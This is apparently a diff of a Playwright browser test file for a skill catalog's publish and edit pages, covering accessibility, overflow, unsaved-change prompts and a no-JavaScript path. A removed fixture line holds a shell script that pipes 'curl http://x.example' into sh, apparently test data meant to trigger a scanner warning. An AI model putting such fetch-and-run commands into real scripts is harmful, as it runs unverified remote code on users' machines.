@@ -1,10 +1,10 @@
-"""A report in Chromium once the form holds something else; focus and lines that are too long."""
+"""The form and its report in Chromium: a report that is outdated, what is typed, keys alone, no script."""
 
 from __future__ import annotations
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
-from playwright.sync_api import Page, Route, expect
+from playwright.sync_api import Browser, Dialog, Page, Route, expect
 
 from catalog.models import Role, Version
 from tests import make
@@ -13,13 +13,6 @@ from tests.make import Cast
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 WIDTHS = (1440, 390)
-LONG = "a" * 64
-SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"
-# What sticks out of the window on the right, but for what scrolls by itself.
-BEYOND = """() => [...document.querySelectorAll("main *")]
-  .filter(one => !one.closest("thead, .scroll, .tabs, pre, .diff-split, .editor, .vh, .segment"))
-  .filter(one => one.getBoundingClientRect().right > innerWidth + 1)
-  .map(one => `${one.tagName}.${one.className}`)"""
 
 
 @pytest.fixture
@@ -36,7 +29,8 @@ def judge(page: Page) -> None:
         page.evaluate("theme => { document.documentElement.dataset.theme = theme }", theme)
         result = Axe().run(page)
         assert result.violations_count == 0, (theme, page.url, result.generate_report())
-    assert page.evaluate(BEYOND) == [], page.url
+    wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+    assert wide <= 0, page.url
 
 
 @pytest.mark.parametrize("width", WIDTHS)
@@ -147,39 +141,42 @@ def test_from_the_form_to_the_version_by_keyboard_alone(open_page: OpenPage, cas
     page.wait_for_url("**/skills/till-close/versions/1.0.0/")
 
 
-@pytest.mark.parametrize("width", WIDTHS)
-def test_a_page_with_errors_begins_at_the_first_of_them(open_page: OpenPage, cast: Cast, width: int) -> None:
+def test_leaving_with_something_typed_is_asked_about(open_page: OpenPage, cast: Cast) -> None:
     make.version(cast=cast)
-    page = open_page("/skills/refund-check/settings/", user=cast.ines, width=width)
-    page.get_by_role("button", name="Delete the skill…").click()
-    page.get_by_role("dialog").get_by_role("button", name="Delete the skill").click()
-    expect(page.locator("#delete-confirm")).to_be_focused()
-    expect(page.locator("#delete-confirm")).to_be_in_viewport()
+    page = open_page("/skills/refund-check/versions/1.0.0/edit/", user=cast.ines)
+    asked: list[str] = []
+
+    def stay(dialog: Dialog) -> None:
+        asked.append(dialog.type)
+        dialog.dismiss()
+
+    page.on("dialog", stay)
+    text = make.skill_md(version="1.1.0").decode()
+    page.locator("#id_skill_text").click()
+    page.keyboard.press("Control+A")
+    page.keyboard.insert_text(text)
+    page.get_by_role("button", name="Check", exact=True).click()
+    expect(page.get_by_text("Can be published")).to_be_visible()
+    page.get_by_role("link", name="Back to 1.0.0").click()
+    expect(page.locator("#id_skill_text")).to_have_value(text)
+    assert asked == ["beforeunload"]
+    page.get_by_role("button", name="Publish as a new version").click()
+    page.wait_for_url("**/versions/1.1.0/")
+    page.get_by_role("link", name="Overview").click()
+    expect(page.get_by_role("heading", name="Environments")).to_be_visible()
+    assert asked == ["beforeunload"]
 
 
-@pytest.mark.parametrize("width", WIDTHS)
-def test_nothing_long_leaves_the_window(open_page: OpenPage, cast: Cast, width: int) -> None:
-    files = {f"scripts/{'b' * 120}.sh": SCRIPT}
-    for number in ("1.0.0", "1.1.0"):
-        make.version(LONG, number, cast=cast, files={**files, f"assets/{number}{'c' * 90}.txt": b"c" * 300})
-    finding = Version.objects.all()[0].findings.filter(severity="warning")[0]
-    base = f"/skills/{LONG}/"
-    page = open_page("/publish/", user=cast.ines, width=width)
-    choose(page, make.skill_md(LONG, version="2.0.0", body=f"See [x](references/{'n' * 150}.md).\n"))
-    expect(page.get_by_role("button", name="2.0.0")).to_be_visible()
-    assert page.evaluate(BEYOND) == []
-    for address in (
-        base,
-        f"{base}files/",
-        f"{base}versions/",
-        f"{base}versions/1.0.0/",
-        f"{base}versions/1.0.0/edit/",
-        f"{base}versions/1.0.0/yank/",
-        f"{base}versions/{finding.version.version}/findings/{finding.fingerprint}/appeal/",
-        f"{base}compare/",
-        f"{base}settings/",
-        f"{base}releases/propose/",
-        "/",
-    ):
-        page.goto(address)
-        assert page.evaluate(BEYOND) == [], address
+def test_without_script_the_chosen_file_is_seen_and_the_answer_begins_at_its_report(
+    browser: Browser, open_page: OpenPage, cast: Cast
+) -> None:
+    scripted = open_page("/publish/", user=cast.ines)
+    context = browser.new_context(java_script_enabled=False, storage_state=scripted.context.storage_state())
+    page = context.new_page()
+    page.goto(scripted.url)
+    choose(page, make.skill_md("Bad_Name"), name="bad.md")
+    assert page.locator("#id_file").evaluate("one => getComputedStyle(one).opacity") == "1"
+    page.get_by_role("button", name="Check", exact=True).click()
+    expect(page.locator("#report-h")).to_be_in_viewport()
+    assert page.url.endswith("/publish/check/#report")
+    context.close()
